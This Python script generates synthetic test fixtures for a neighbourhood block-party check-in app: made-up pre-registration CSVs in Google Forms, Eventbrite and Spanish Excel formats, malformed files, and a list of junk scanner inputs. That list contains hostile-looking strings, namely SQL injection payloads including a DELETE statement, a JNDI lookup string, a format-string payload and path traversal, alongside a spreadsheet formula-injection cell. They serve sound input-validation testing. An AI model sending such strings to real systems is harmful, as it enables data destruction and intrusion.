"""Writes the pre-registration and scanner test files into tests/data/prereg/ (committed with
this script, so a fresh clone has everything its tests read):

    python tests/data/make_prereg_samples.py

- prereg-google-forms.csv: a Google Forms response sheet, 122 usable rows, then the rows the
  repairs are tested on (a formula, a multi-line cell, an empty response, a negative count);
- prereg-eventbrite.csv: an Eventbrite attendee report (UTF-8 with a BOM, CRLF), 80 attendees;
- prereg-excel-es-cp1252.csv: a Spanish Excel sheet saved as CSV (cp1252, semicolons), 60 rows;
- scanner-garbage.txt: what a keyboard-wedge scanner types that is not one of our codes, one
  input a line (a written `\\n` stands for a newline inside an input);
- bad/: files the import refuses, one per reason.

Every row is made up here from small name lists and a seeded generator: the same bytes come out
every run (tests/checkin/people/test_csv_import.py checks the committed files are this
script's output).
The rows the tests look at by line number are written out below, not drawn.
"""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Sequence
from pathlib import Path

OUT = Path(__file__).resolve().parent / "prereg"

FIRST = [
    "Keisha", "Luis", "Hannah", "Omar", "Rosa", "Trevor", "Lin", "Marcus", "Esperanza", "Dmitri",
    "Fatima", "Curtis", "Yolanda", "Bao", "Gloria", "Terrence", "Ingrid", "Malik", "Paloma", "Wei",
]  # fmt: skip
LAST = [
    "Ortiz", "Baker", "Washington", "Kim", "Delgado", "Murphy", "Tran", "Coleman", "Ruiz",
    "Patel", "Foster", "Nakamura", "Bell", "Castillo", "Reed", "Okafor", "Silva", "Harper",
]  # fmt: skip
ZIPS = ["64127", "64128", "64129", "64130", "64131", "64132", "64137", "64138"]
HEARD = ["Nextdoor", "Church", "School", "A neighbor", "Flyer at my door", "Facebook", ""]
# One phone format a row, in turn: the ways people type a number into a form.
PHONE_STYLES = ["816{a}{b}", "({a3}) {a4}-{b}", "816-{a4}-{b}", "+1 816 {a4} {b}", "816 {a4} {b}"]


def write_csv(
    path: Path,
    rows: Sequence[Sequence[str]],
    *,
    delimiter: str = ",",
    encoding: str = "utf-8",
    line_end: str = "\n",
) -> None:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator=line_end).writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))


def phone(rng: random.Random, style: int) -> str:
    a, b = rng.randrange(200, 1000), rng.randrange(1000, 10000)
    return PHONE_STYLES[style % len(PHONE_STYLES)].format(a=a, b=b, a3="816", a4=a)


# ------------------------------------------------------------------ Google Forms
GOOGLE_HEADER = [
    "Timestamp",
    "First name",
    "Last name",
    "Phone number",
    "Email address",
    "Zip code",
    "How many adults in your household?",
    "How many kids (under 18)?",
    "How did you hear about the block party?",
    "Can we contact you about future events?",
]
# Rows the tests read by their physical line (the header is line 1).
GOOGLE_FIXED: dict[int, list[str]] = {
    3: ["8/13/2026 12:44:30", "Andre", "Green", "8162600588", "andre.3@example.org", "64132",
        "2", "0", "Nextdoor", ""],  # consent left blank
    4: ["8/7/2026 20:27:38", "Mary", "Robinson", "+1 816 789 7017", "", "64132", "1", "0", "",
        "Yes"],
    5: ["8/9/2026 14:56:01", "Mei", "Scott", "(816) 583-6055", "mei.3@example.org", "64137",
        "1", "4", "Nextdoor", "Yes"],
    13: ["8/7/2026 13:56:32", "James", "Scott", "816-400-8095", "james.13@example.org", "64130",
         "2", "2", "Church", "No"],
    16: ["8/13/2026 21:32:54", "María Guadalupe", "Ortiz", "(816) 502-8139", "", "KC", "1", "1",
         "A neighbor", ""],
    50: ["8/6/2026 10:02:11", "Nguyễn", "Tran", "816-555-0150", "", "64134-2207", "2", "1",
         "School", "Yes"],
    96: ["8/2/2026 9:40:00", "Zoë", "Bell", "", "", "n/a", "1", "0", "", "No"],
    108: ["8/12/2026 18:05:45", "Ángel", "Reed", "", "", "Kansas City", "3", "2", "Church", "yes"],
}  # fmt: skip
GOOGLE_TAIL = [  # lines 122 to 126
    ["8/14/2026 9:00:00", '=HYPERLINK("http://example.com","click")', "Formula", "", "",
     "64134", "1", "0", "", "No"],
    ["8/14/2026 9:01:00", "Ann", "Multi\nLine", "816-555-0100", "", "64134", "two", "0",
     "A neighbor", "Yes"],  # two physical lines
    ["8/14/2026 9:02:00", "", "", "", "", "", "", "", "", ""],
    ["8/14/2026 9:03:00", "Tiana 🎉", "Brooks", "816 555 0101", "tiana@example.org", "64137",
     "1", "-2", "", "Yes"],
]  # fmt: skip
CONSENT = ["Yes", "", "No", "Yes", "yes", "No"]


def google_forms() -> list[list[str]]:
    rng = random.Random(2201)
    rows = [GOOGLE_HEADER]
    for line in range(2, 122):
        if line in GOOGLE_FIXED:
            rows.append(GOOGLE_FIXED[line])
            continue
        first = FIRST[line % len(FIRST)]
        last = LAST[(line * 7) % len(LAST)]
        stamp = f"8/{1 + line % 14}/2026 {8 + line % 13}:{line % 60:02d}:{(line * 17) % 60:02d}"
        number = phone(rng, line) if line % 4 else ""
        email = f"{first.lower()}.{line}@example.org" if line % 3 else ""
        rows.append(
            [
                stamp,
                first,
                last,
                number,
                email,
                ZIPS[line % len(ZIPS)],
                str(1 + line % 3),
                str(line % 6),
                HEARD[line % len(HEARD)],
                CONSENT[line % len(CONSENT)],
            ]
        )
    return rows + GOOGLE_TAIL


# ------------------------------------------------------------------ Eventbrite
EVENTBRITE_HEADER = [
    "Order #", "Order Date", "First Name", "Last Name", "Email", "Quantity", "Ticket Type",
    "Attendee #", "Barcode #", "Order Type", "Total Paid", "Attendee Status", "Cell Phone",
    "Zip Code", "Number of children attending",
]  # fmt: skip


def eventbrite() -> list[list[str]]:
    rng = random.Random(2202)
    rows = [EVENTBRITE_HEADER]
    for n in range(80):
        first, last = (
            ("Ana Sofía", "Hernández") if n == 0 else (FIRST[n % 20], LAST[(n * 5 + 3) % 18])
        )
        attendee = 15_000_000_000 + n
        rows.append(
            [
                str(8_100_000_000 + n),
                f"2026-08-{1 + n % 14:02d} {9 + n % 9}:{(n * 13) % 60:02d}:00",
                first,
                last,
                f"{first.split()[0].lower()}.{n}@example.org",
                "1",
                "General Admission",
                str(attendee),
                f"{attendee}001",
                "Free Order",
                "0.00",
                "Attending",
                phone(rng, n),
                ZIPS[n % len(ZIPS)],
                "4" if n == 0 else str(n % 5),
            ]
        )
    return rows


# ------------------------------------------------------------------ Excel, Spanish, cp1252
EXCEL_HEADER = ["Nombre", "Apellido", "Teléfono", "Código postal", "Adultos", "Niños", "Notas"]
NOMBRES = ["Lucía", "Mateo", "Valeria", "Santiago", "Camila", "Diego", "Sofía", "Andrés"]
APELLIDOS = ["García", "Hernández", "López", "Martínez", "Gómez", "Díaz", "Ramírez", "Ortega"]
EXCEL_FIXED = {  # by physical line
    3: ["Carmen", "Flores", "816-555-0103", "64129", "2", "1", "Alergia al maní"],
    14: ["Peña", "Núñez", "8165550114", "64130", "1", "2", ""],
    31: ["José", "Ibáñez", "", "64131", "3", "0", "Silla de ruedas"],
}


def excel_es() -> list[list[str]]:
    rng = random.Random(2203)
    rows = [EXCEL_HEADER]
    for line in range(2, 62):
        if line in EXCEL_FIXED:
            rows.append(EXCEL_FIXED[line])
            continue
        rows.append(
            [
                NOMBRES[line % len(NOMBRES)],
                APELLIDOS[(line // 8) % len(APELLIDOS)],  # with the first name: no two alike
                phone(rng, line) if line % 2 else "",
                ZIPS[line % len(ZIPS)],
                str(1 + line % 2),
                str(line % 4),
                "",
            ]
        )
    return rows


# ------------------------------------------------------------------ scanner garbage
GARBAGE = [
    "https://example.org/block-party",
    "WIFI:S:CommunityCenter;T:WPA;P:letmein;;",
    "BEGIN:VCARD\\nFN:Pat Doe\\nEND:VCARD",  # a vCard: newlines inside one input
    "4006381333931",  # an EAN-13 from a grocery item
    "036000291452",  # a UPC-A
    "",  # the trigger pulled at nothing
    "    ",
    "\x1b[2J",
    "\x00\x01\x02",
    "Z" * 12_000,  # a scanner stuck in a loop
    "1 OR 1=1; --",
    "'); DELETE FROM attendees; --",
    "CK",
    "ck-",
    "🎈🎈🎈",
    "\u202edesserts",  # a right-to-left override
    "%x%x%n",
    "${jndi:ldap://example.org/a}",
    "..\\..\\windows\\system32",
]


def scanner_garbage() -> str:
    return "".join(f"{line}\n" for line in GARBAGE)


# ------------------------------------------------------------------ refused files
def bad_files() -> dict[str, bytes]:
    rng = random.Random(2204)
    return {
        "binary.csv": bytes(rng.randrange(256) for _ in range(4096)),
        "empty.csv": b"",
        "huge-field.csv": b"First name,Last name,Zip code\n" + b"B" * 150_000 + b",Lee,64130\n",
        "no-header.csv": b"Ann,Lee,64130\nBo,Diaz,64137\n",
        "only-header.csv": b"First name,Last name,Zip code\n",
        "unclosed-quote.csv": b'First name,Last name,Zip code\n"Ann,Lee,64130\nBo,Diaz,64137\n',
    }


def main() -> None:
    (OUT / "bad").mkdir(parents=True, exist_ok=True)
    write_csv(OUT / "prereg-google-forms.csv", google_forms())
    write_csv(OUT / "prereg-eventbrite.csv", eventbrite(), encoding="utf-8-sig", line_end="\r\n")
    write_csv(
        OUT / "prereg-excel-es-cp1252.csv",
        excel_es(),
        delimiter=";",
        encoding="cp1252",
        line_end="\r\n",
    )
    (OUT / "scanner-garbage.txt").write_bytes(scanner_garbage().encode("utf-8"))
    for name, content in bad_files().items():
        (OUT / "bad" / name).write_bytes(content)


if __name__ == "__main__":
    main()
